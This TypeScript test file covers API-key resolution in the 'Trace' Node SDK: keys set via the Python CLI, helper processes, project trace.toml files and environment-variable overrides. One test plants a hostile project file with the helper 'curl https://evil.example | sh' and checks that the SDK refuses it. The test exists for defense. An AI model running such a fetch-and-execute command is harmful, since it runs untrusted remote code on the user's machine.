/**
 * Key sources through the Node SDK as a program uses it: real helper processes, real
 * project files, config.toml and credentials.json written by the Python CLI, and the
 * protocol server (its `reject_keys` answers like a provider that rejects a key).
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, chownSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";

import {
  EnvOverrideError,
  KeyHelperError,
  MissingNamedKeyError,
  type Notice,
  ProjectFileError,
  Trace,
  type TraceOptions,
} from "../src/index.js";
import { configDir, done, type Json, ProtocolServer, REPO, type RecordedRequest, text, TOKEN, turn } from "./support.js";

const STORED = "sk-ant-api03-node-stored-key-0001";
const ENV_KEY = "sk-ant-api03-node-env-key-0002";
const NAMED = "sk-ant-api03-node-named-key-0003";
const HELPED = "sk-proj-node-printed-by-helper-0004";
const FRESH = "sk-proj-node-printed-again-0005";
const HAVE_BUS = Boolean(process.env["DBUS_SESSION_BUS_ADDRESS"]);
const REQUIRE = process.env["REQUIRE_SECRET_SERVICE"] === "1";
const keychain = { skip: !HAVE_BUS && !REQUIRE ? "no Secret Service (run under scripts/with-keychain)" : false };

let server: ProtocolServer;
let seen = 0;

before(async () => {
  server = await ProtocolServer.start();
});
after(async () => {
  await server.stop();
});

/** Replace the server's script (turns, reject_keys); `chats()` then returns only what came after. */
async function script(body: Record<string, Json>): Promise<void> {
  seen = (await server.state()).requests.length;
  await server.script(body);
}

async function chats(): Promise<RecordedRequest[]> {
  return (await server.state()).requests.slice(seen).filter((r) => r.path.endsWith("/chat/stream"));
}

/** A private config directory and the environment the CLI and the SDK share (keys in the 0600 file). */
function world(extra: Record<string, string> = {}): { dir: string; env: Record<string, string> } {
  const dir = configDir();
  const env: Record<string, string> = {};
  for (const [name, value] of Object.entries(process.env)) {
    if (value !== undefined && !/^(TRACE_|ANTHROPIC_|OPENAI_|GEMINI_|GOOGLE_API)/.test(name)) env[name] = value;
  }
  Object.assign(env, {
    TRACE_CONFIG_DIR: dir,
    TRACE_CREDENTIALS_STORE: "file",
    TRACE_KEYCHAIN_SERVICE: `buildwithtrace-node-keys-${process.pid}-${Math.random().toString(16).slice(2, 10)}`,
    TRACE_BASE_URL: server.url,
    TRACE_API_TOKEN: TOKEN,
    ...extra,
  });
  return { dir, env };
}

/** `buildwithtrace ARGS` (the Python CLI of the repository's .venv). */
function cli(args: string[], env: Record<string, string>, input?: string): string {
  return execFileSync(join(REPO, ".venv", "bin", "buildwithtrace"), args, { env, input, cwd: REPO, encoding: "utf8" });
}

/**
 * A helper program (a Node script) for the config dir `dir`; returns the command that
 * runs it. It lives in a lower-case directory: the shared command rule refuses a
 * 32-character path piece mixing cases and digits as key-shaped (mkdtemp's suffix can).
 */
function helper(dir: string, name: string, body: string): string {
  const bin = join(tmpdir(), `trace-node-helpers-${process.pid}-${createHash("sha256").update(dir).digest("hex").slice(0, 12)}`);
  mkdirSync(bin, { recursive: true, mode: 0o700 });
  const path = join(bin, `${name}.mjs`);
  writeFileSync(path, `import fs from "node:fs";\nimport { spawn } from "node:child_process";\n${body}\n`);
  return `${process.execPath} ${path}`;
}

function client(env: Record<string, string>, options: TraceOptions = {}): Trace {
  return new Trace({ env, ...options });
}

async function helperError(promise: Promise<unknown>): Promise<KeyHelperError> {
  try {
    await promise;
  } catch (error) {
    assert.ok(error instanceof KeyHelperError, String(error));
    return error;
  }
  assert.fail("no KeyHelperError");
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  try {
    return readFileSync(`/proc/${pid}/stat`, "utf8").split(" ")[2] !== "Z"; // a zombie counts as stopped
  } catch {
    return false;
  }
}

// --- interop: what the Python CLI stores ------------------------------------------------

test("a named key and a helper set with the Python CLI are found with the CLI's source labels", async () => {
  const { dir, env } = world();
  cli(["byok", "set", "anthropic", "--name", "work", "--key-stdin"], env, `${NAMED}\n`);
  cli(["byok", "set", "openai", "--name", "ci", "--helper", helper(dir, "ci", `console.log(${JSON.stringify(HELPED)});`)], env);
  const status = JSON.parse(cli(["byok", "status", "--json", "--run-helpers"], env)) as {
    providers: { provider: string; key: { source: string | null } }[];
  };
  const python = Object.fromEntries(status.providers.map((p) => [p.provider, p.key.source]));
  const trace = client(env);
  const anthropic = await trace.resolve({ llmProvider: "anthropic" });
  const openai = await trace.resolve();
  assert.deepEqual(
    [anthropic.keySource, anthropic.credential?.secret.reveal(), openai.provider, openai.keySource, openai.credential?.secret.reveal()],
    ["file:work", NAMED, "openai", "helper:ci", HELPED],
  );
  assert.deepEqual([python["anthropic"], python["openai"]], [anthropic.keySource, openai.keySource]);
});

test("a named key in the keychain reads keychain:NAME", keychain, async () => {
  const { env } = world({ TRACE_CREDENTIALS_STORE: "keychain" });
  cli(["byok", "set", "gemini", "--name", "team", "--key-stdin"], env, "AIza-node-keychain-named-0123456789\n");
  const found = await client(env).resolve();
  assert.deepEqual([found.provider, found.keySource], ["gemini", "keychain:team"]);
  assert.equal(found.credential?.secret.reveal(), "AIza-node-keychain-named-0123456789");
});

test("a chosen name without its key is MissingNamedKeyError, never the default key", async () => {
  const { dir, env } = world();
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  // The name chosen, its key gone (the CLI refuses to choose a missing key: a hand edit,
  // or a config.toml shared between machines).
  writeFileSync(join(dir, "config.toml"), '[llm]\nprovider = "anthropic"\n\n[llm.key_names]\nanthropic = "work"\n');
  await assert.rejects(client(env).resolve(), (error: unknown) => {
    assert.ok(error instanceof MissingNamedKeyError);
    assert.equal(error.problem, "no anthropic key named 'work' (chosen by byok use anthropic --name work)");
    return true;
  });
});

// --- helper processes ----------------------------------------------------------------------

test("a helper's key with surrounding whitespace is sent exactly, the helper told why it runs", async () => {
  const { dir, env } = world();
  const why = join(dir, "why.txt");
  const command = helper(
    dir,
    "spaced",
    `fs.writeFileSync(${JSON.stringify(why)}, [process.env.TRACE_KEY_HELPER_REASON, process.env.TRACE_KEY_HELPER_PROVIDER, process.env.TRACE_KEY_HELPER_NAME, fs.readFileSync(0, "utf8")].join("|"));
process.stdout.write("  \\n ${HELPED} \\r\\n\\n");`,
  );
  cli(["byok", "set", "openai", "--helper", command], env);
  await script({ turns: [turn([text("ok"), done()])] });
  const reply = await client(env).chat("hello");
  assert.deepEqual([reply.keySource, reply.maskedKey], ["helper", "…0004"]);
  assert.deepEqual((await chats()).map((r) => r.body["llm_api_key"]), [HELPED]);
  assert.equal(readFileSync(why, "utf8"), "sdk|openai||"); // stdin is closed (empty)
});

test("a helper that hangs is stopped with what it started, in bounded time", async () => {
  const { dir, env } = world();
  const pidFile = join(dir, "child.pid");
  const command = helper(
    dir,
    "hangs",
    `const child = spawn(process.execPath, ["-e", "setTimeout(() => {}, 600000)"], { stdio: "ignore" });
fs.writeFileSync(${JSON.stringify(pidFile)}, String(child.pid));
setTimeout(() => {}, 600000);`,
  );
  cli(["byok", "set", "anthropic", "--helper", command], env);
  cli(["config", "set", "keys.helper_timeout", "1"], env);
  const started = Date.now();
  const error = await helperError(client(env).resolve());
  assert.ok(Date.now() - started < 30_000, "bounded (about 1 s), not the helper's 600 s");
  assert.match(error.problem, /^anthropic: the key helper 'node' did not finish within 1 s and was stopped$/);
  assert.match(error.fix, /keys\.helper_timeout/);
  const child = Number(readFileSync(pidFile, "utf8"));
  const deadline = Date.now() + 10_000;
  while (alive(child) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  assert.ok(!alive(child), "what the helper started is stopped with it");
});

test("a helper that prints garbage, nothing, or too much is a clear error that never quotes it", async () => {
  const { dir, env } = world();
  const cases: [string, RegExp][] = [
    [`console.log("Enter passphrase for ${STORED}:");`, /printed more than one word on its first line/],
    [``, /printed nothing/],
    [`process.stdout.write(Buffer.from([0xff, 0xfe]));`, /printed bytes that are not UTF-8 text/],
    [`const k = "k".repeat(65536); const again = () => process.stdout.write(k, again); again();`, /printed more than 64 KiB/],
  ];
  for (const [index, [body, expected]] of cases.entries()) {
    cli(["byok", "set", "anthropic", "--helper", helper(dir, `bad${index}`, body)], env);
    const error = await helperError(client(env).resolve());
    assert.match(error.problem, expected);
    assert.ok(!error.message.includes(STORED.slice(0, 12)));
  }
});

test("a helper that exits non-zero shows one masked line of its stderr", async () => {
  const { dir, env } = world();
  const command = helper(
    dir,
    "fails",
    `console.log(${JSON.stringify(HELPED)} + "\\nlease-id-7k2m9q4x");
process.stderr.write("[ERROR] vault: permission denied for ${HELPED.slice(0, 20)}\\x1b[31m (lease-id-7k2m9q4x) and sk-ant-api03-other-looking-key-000000000\\n" + "x".repeat(5000));
process.exitCode = 3;`,
  );
  cli(["byok", "set", "openai", "--name", "client-a", "--helper", command], env);
  const error = await helperError(client(env).resolve());
  assert.ok(error.problem.startsWith("openai:client-a: the key helper 'node' exited with status 3: [ERROR] vault: permission denied for"));
  assert.ok(!error.message.includes(HELPED.slice(0, 8)) && !error.problem.includes("sk-ant-api03"));
  assert.ok(!error.problem.includes("lease-id"), "what it printed on stdout is masked even when not key-shaped");
  assert.ok(!error.problem.includes("\x1b") && error.problem.length < 500);
  cli(["byok", "set", "gemini", "--helper", "/nonexistent-trace-test/no-such-password-manager read x"], env);
  const missing = await helperError(client(env).resolve());
  assert.equal(missing.problem, "gemini: the key helper program 'no-such-password-manager' was not found");
  assert.ok(missing.fix.startsWith("install it, or fix the command: buildwithtrace byok set gemini"));
});

test("a helper's key is held per client: one run for two chats, a new client runs it again", async () => {
  const { dir, env } = world();
  const count = join(dir, "count");
  const command = helper(
    dir,
    "counted",
    `fs.appendFileSync(${JSON.stringify(count)}, "x"); console.log(${JSON.stringify(HELPED)});`,
  );
  cli(["byok", "set", "openai", "--helper", command], env);
  await script({ turns: [turn([text("a"), done()]), turn([text("b"), done()]), turn([text("c"), done()])] });
  const trace = client(env);
  await Promise.all([trace.chat("one"), trace.chat("two")]); // concurrent: still one run
  await client(env).chat("three");
  assert.equal(readFileSync(count, "utf8"), "xx");
});

test("an expiring helper key rejected by the provider is fetched again and the request retried once", async () => {
  const { dir, env } = world();
  const count = join(dir, "count");
  const command = helper(
    dir,
    "rotating",
    `fs.appendFileSync(${JSON.stringify(count)}, "x");
const first = fs.readFileSync(${JSON.stringify(count)}, "utf8").length === 1;
const expires = new Date(Date.now() + 3600_000).toISOString();
console.log(JSON.stringify({ key: first ? ${JSON.stringify(HELPED)} : ${JSON.stringify(FRESH)}, expires_at: expires }));`,
  );
  cli(["byok", "set", "openai", "--helper", command], env);
  await script({ reject_keys: [HELPED], turns: [turn([text(`fine, not ${HELPED}`), done()])] });
  const told: Notice[] = [];
  const events: string[] = [];
  const trace = client(env, { onNotice: (notice) => told.push(notice) });
  let reply;
  for await (const event of trace.stream("hello")) {
    events.push(event.type);
    if (event.type === "done") reply = event.reply;
  }
  assert.ok(reply !== undefined);
  const requests = await chats();
  assert.deepEqual(requests.map((r) => r.body["llm_api_key"]), [HELPED, FRESH]);
  assert.notEqual(requests[0]?.body["session_id"], requests[1]?.body["session_id"]);
  assert.ok(!events.includes("error") && events.at(-1) === "done"); // the rejection is not an event of the turn
  assert.equal(reply.text, "fine, not ***"); // the rejected key stays masked
  assert.deepEqual([reply.keySource, reply.maskedKey, reply.errors], ["helper", "…0005", []]);
  assert.deepEqual(told, [
    { code: "key_refreshed", message: "openai rejected the key from helper; ran the helper again and retried the request once" },
  ]);
  assert.deepEqual(reply.notices, told);
  assert.equal(readFileSync(count, "utf8"), "xx");
});

test("the retry is bounded: once, only for a helper's key, only before any text", async () => {
  const { dir, env } = world();
  const command = helper(dir, "same", `console.log(${JSON.stringify(HELPED)});`);
  cli(["byok", "set", "openai", "--helper", command], env);
  // Rejected again: two requests, no more, and the error is the turn's.
  await script({ reject_keys: [HELPED], turns: [] });
  const twice = await client(env, { onNotice: () => undefined }).chat("hello");
  assert.equal((await chats()).length, 2);
  assert.deepEqual(twice.errors, ["openai rejected the API key (HTTP 401)"]);

  // A rejection after text: no retry (it would repeat what the model did).
  const late = {
    op: "event",
    data: { type: "error", code: "provider_auth", provider_status: 401, content: "openai rejected the API key (HTTP 401)" },
  };
  await script({ turns: [turn([text("partial"), late, done()])] });
  const after = await client(env).chat("hello");
  assert.equal((await chats()).length, 1);
  assert.deepEqual([after.text, after.errors.length], ["partial", 1]);

  // A stored key rejected: no helper to ask, no retry.
  const stored = world();
  cli(["byok", "set", "openai", "--key-stdin"], stored.env, `${STORED}\n`);
  await script({ reject_keys: [STORED], turns: [] });
  const once = await client(stored.env).chat("hello");
  assert.equal((await chats()).length, 1);
  assert.deepEqual(once.errors, ["openai rejected the API key (HTTP 401)"]);
});

// --- project files -----------------------------------------------------------------------

test("a project file applies once allowed with the CLI, and is ignored again once changed", async () => {
  const { dir, env } = world();
  const project = join(dir, "client-a");
  mkdirSync(project);
  const file = join(project, "trace.toml");
  writeFileSync(file, '[llm]\nprovider = "anthropic"\nkey_name = "client-a"\n');
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  cli(["byok", "set", "anthropic", "--name", "client-a", "--key-stdin"], env, `${NAMED}\n`);
  cli(["byok", "use", "anthropic"], env);
  await script({ turns: [turn([text("a"), done()]), turn([text("b"), done()]), turn([text("c"), done()])] });
  const told: Notice[] = [];
  const trace = client(env, { projectDir: project, onNotice: (notice) => told.push(notice) });

  const before = await trace.chat("before allowing");
  cli(["project", "allow", project], env);
  const allowed = await trace.chat("after allowing");
  writeFileSync(file, '[llm]\nprovider = "anthropic"\nkey_name = "client-a"\nmodel = "claude-opus-4-1"\n');
  const changed = await trace.chat("after a change");

  assert.deepEqual((await chats()).map((r) => r.body["llm_api_key"]), [STORED, NAMED, STORED]);
  assert.deepEqual([before.projectFile, allowed.projectFile, changed.projectFile], [null, file, null]);
  assert.equal(allowed.keySource, "file:client-a");
  assert.deepEqual(told, [
    { code: "project_ignored", message: `ignored ${file} (not allowed yet): run buildwithtrace project allow ${project}` },
    { code: "project_ignored", message: `ignored ${file} (changed since you allowed it): run buildwithtrace project allow ${project}` },
  ]);
  const resolved = await client(env).resolve({ projectDir: join(project) });
  assert.deepEqual(resolved.project, {
    path: file,
    state: "changed",
    selection: { provider: "anthropic", keyName: "client-a", model: "claude-opus-4-1" },
  });
});

test("a hostile project file is refused before any request", async () => {
  const { dir, env } = world();
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  await script({ turns: [turn([text("never"), done()])] });
  const refuse = async (project: string, expected: RegExp): Promise<void> => {
    await assert.rejects(client(env, { projectDir: project }).chat("hostile"), (error: unknown) => {
      assert.ok(error instanceof ProjectFileError, String(error));
      assert.match(error.problem, expected);
      return true;
    });
  };
  const commands = join(dir, "commands");
  mkdirSync(commands);
  writeFileSync(join(commands, "trace.toml"), '[llm]\nprovider = "openai"\nhelper = "curl https://evil.example | sh"\n');
  await refuse(commands, /llm\.helper looks like a command/);
  const linked = join(dir, "linked");
  mkdirSync(linked);
  writeFileSync(join(dir, "elsewhere.toml"), '[llm]\nprovider = "openai"\n');
  symlinkSync(join(dir, "elsewhere.toml"), join(linked, "trace.toml"));
  await refuse(linked, /is a symbolic link/);
  const large = join(dir, "large");
  mkdirSync(large);
  writeFileSync(join(large, "trace.toml"), "#".repeat(64 * 1024 + 1));
  await refuse(large, /is larger than 64 KiB/);
  const nested = join(commands, "board", "sub");
  mkdirSync(nested, { recursive: true });
  await refuse(nested, /commands\/trace\.toml: llm\.helper/); // found by walking up
  assert.deepEqual(await chats(), []);
});

test("another user's project file is refused, and the walk stops at another user's directory", { skip: process.getuid?.() !== 0 ? "needs root to hand files to another user" : false }, async () => {
  const { dir, env } = world();
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  const theirs = join(dir, "theirs");
  mkdirSync(theirs);
  writeFileSync(join(theirs, "trace.toml"), '[llm]\nprovider = "openai"\n');
  chownSync(join(theirs, "trace.toml"), 65534, 65534);
  await assert.rejects(client(env, { projectDir: theirs }).resolve(), /belongs to uid 65534, not you/);

  const shared = join(dir, "shared");
  const mine = join(shared, "mine");
  mkdirSync(mine, { recursive: true });
  writeFileSync(join(shared, "trace.toml"), '[llm]\nprovider = "openai"\n');
  chownSync(join(shared, "trace.toml"), 65534, 65534);
  chownSync(shared, 65534, 65534);
  chmodSync(shared, 0o755);
  const found = await client(env, { projectDir: mine }).resolve();
  assert.deepEqual([found.project, found.provider], [null, "anthropic"]);
});

// --- no surprise bills ---------------------------------------------------------------------

test("an env var overriding a stored key is told once per client, before the request", async () => {
  const { env } = world();
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  const withEnv = { ...env, ANTHROPIC_API_KEY: ENV_KEY };
  await script({ turns: [turn([text("a"), done()]), turn([text("b"), done()]), turn([text("c"), done()])] });
  const told: Notice[] = [];
  const trace = client(withEnv, { onNotice: (notice) => told.push(notice) });
  await trace.chat("one");
  await trace.chat("two");
  await client(withEnv, { onNotice: (notice) => told.push(notice) }).chat("three");
  const message =
    "ANTHROPIC_API_KEY is set: its key is used for anthropic instead of your stored key (file); unset ANTHROPIC_API_KEY to use yours";
  assert.deepEqual(told, [{ code: "env_override", message }, { code: "env_override", message }]);
  assert.deepEqual((await chats()).map((r) => r.body["llm_api_key"]), [ENV_KEY, ENV_KEY, ENV_KEY]);

  // Without onNotice: a TraceNotice process warning, once per client.
  await script({ turns: [turn([text("a"), done()]), turn([text("b"), done()])] });
  const warnings: Error[] = [];
  const listen = (warning: Error): void => {
    if (warning.name === "TraceNotice") warnings.push(warning);
  };
  process.on("warning", listen);
  try {
    const quiet = client(withEnv);
    await quiet.chat("one");
    await quiet.chat("two");
    await new Promise((r) => setImmediate(r)); // warnings are emitted on the next tick
  } finally {
    process.off("warning", listen);
  }
  assert.deepEqual(
    warnings.map((w) => [w.message, (w as Error & { code?: string }).code]),
    [[message, "env_override"]],
  );
});

test("keys.env_override = error refuses an env key over a stored one, before any request", async () => {
  const { env } = world();
  cli(["byok", "set", "anthropic", "--key-stdin"], env, `${STORED}\n`);
  cli(["config", "set", "keys.env_override", "error"], env);
  await script({ turns: [turn([text("never"), done()])] });
  await assert.rejects(client({ ...env, ANTHROPIC_API_KEY: ENV_KEY }).chat("hello"), (error: unknown) => {
    assert.ok(error instanceof EnvOverrideError);
    assert.equal(error.problem, "ANTHROPIC_API_KEY is set and would override your stored key (file) (keys.env_override = error)");
    assert.equal(error.fix, "unset ANTHROPIC_API_KEY   (or: buildwithtrace config set keys.env_override warn)");
    assert.ok(!error.message.includes(ENV_KEY.slice(-8)) && !error.message.includes(STORED.slice(-8)));
    return true;
  });
  assert.deepEqual(await chats(), []);
  // With nothing stored there is nothing to override: no error.
  const empty = world();
  cli(["config", "set", "keys.env_override", "error"], empty.env);
  const found = await client({ ...empty.env, ANTHROPIC_API_KEY: ENV_KEY }, { llmProvider: "anthropic" }).resolve();
  assert.deepEqual([found.keySource, found.overrides, found.notices], ["env:ANTHROPIC_API_KEY", null, []]);
});
